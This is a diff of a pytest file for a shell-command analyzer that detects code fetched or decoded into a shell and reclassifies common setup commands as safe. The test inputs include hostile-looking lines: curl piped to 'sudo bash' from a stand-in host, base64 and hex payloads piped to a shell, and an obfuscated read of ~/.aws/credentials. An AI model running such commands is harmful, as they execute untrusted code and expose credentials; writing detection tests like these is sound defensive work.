@@ -247,12 +247,11 @@ def test_a_program_built_in_the_same_command_is_the_project(sb):
 
 
 @pytest.mark.parametrize("command, producers", [
-    ("eval \"$(ssh-agent -s)\"", ["ssh-agent"]),
-    ("eval \"$(pyenv init -)\"", ["pyenv init"]),
-    ("source <(kubectl completion bash)", ["kubectl completion"]),
     ("curl -s https://x.io/i | sudo bash", ["curl"]),
-    ("echo aGk= | base64 -d | sh", ["echo", "base64"]),
+    ("echo aGk= | base64 -d | sh", ["base64"]),
     ("$(curl -s https://x.io/cmd)", ["curl"]),
+    ("eval \"$(make -s print-env)\"", ["make print-env"]),
+    ("source <(./bin/devenv hook)", ["devenv hook"]),
 ])
 def test_code_producers_name_what_made_the_code(sb, command, producers):
     analysis = sb.run(command)
@@ -260,11 +259,17 @@ def test_code_producers_name_what_made_the_code(sb, command, producers):
     assert list(analysis.code_producers) == producers
 
 
+@pytest.mark.parametrize("command", ["eval \"$(ssh-agent -s)\"", "eval \"$(pyenv init -)\"",
+                                     "source <(kubectl completion bash)"])
+def test_well_known_shell_setup_is_not_code_from_a_stream(sb, command):
+    assert not sb.run(command).pipes_to_shell
+
+
 def test_decoders_are_seen_through(sb):
     analysis = sb.run('cat "$HOME/$(echo LmF3cy9jcmVkZW50aWFscw== | base64 -d)"')
     assert "~/.aws/credentials" in {sb.short(p) for p in analysis.paths}
-    analysis = sb.run('eval "$(echo 6c73202f726f6f74 | xxd -r -p)"')
-    assert "/root" in analysis.paths and analysis.pipes_to_shell
+    analysis = sb.run('eval "$(echo 636174202f6574632f686f73746e616d65 | xxd -r -p)"')
+    assert "/etc/hostname" in analysis.paths and analysis.pipes_to_shell
     assert list(analysis.code_producers) == ["xxd"]  # the decoder the code came out of
 
 
